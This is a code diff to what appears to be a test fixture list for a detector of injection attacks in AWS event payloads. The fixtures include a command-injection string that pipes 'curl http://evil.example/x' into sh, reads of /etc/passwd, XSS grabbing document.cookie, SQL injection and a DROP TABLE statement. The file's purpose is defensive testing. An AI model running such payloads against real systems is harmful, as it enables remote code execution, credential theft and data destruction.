@@ -204,10 +204,10 @@ ATTACKS = [
      apigw_v1("name=x; cat /etc/passwd", b64=True)),
     ("cmdi", "aws:apigateway", "queryStringParameters.host",
      apigw_v1("", qs={"host": "8.8.8.8 && curl http://evil.example/x | sh"})),
-    ("xss", "aws:apigateway:v2", "rawQueryString|url",
+    ("xss", "aws:apigateway:v2", "rawQueryString[q]|url",
      apigw_v2("q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
     ("path_traversal", "aws:s3", "Records[0].s3.object.key", s3("../../../../etc/passwd")),
-    ("sqli", "aws:alb", "body|url", alb("user=admin%27%20OR%201%3D1--&pw=x")),
+    ("sqli", "aws:alb", "body[user]|url", alb("user=admin%27%20OR%201%3D1--&pw=x")),
     ("xss", "aws:events", "detail.comment", eventbridge({"comment": "<img src=x onerror=alert(1)>"})),
     ("rule", "aws:dynamodb", "Records[0].dynamodb.NewImage.note.S", dynamodb("drop   TABLE orders")),
 ]
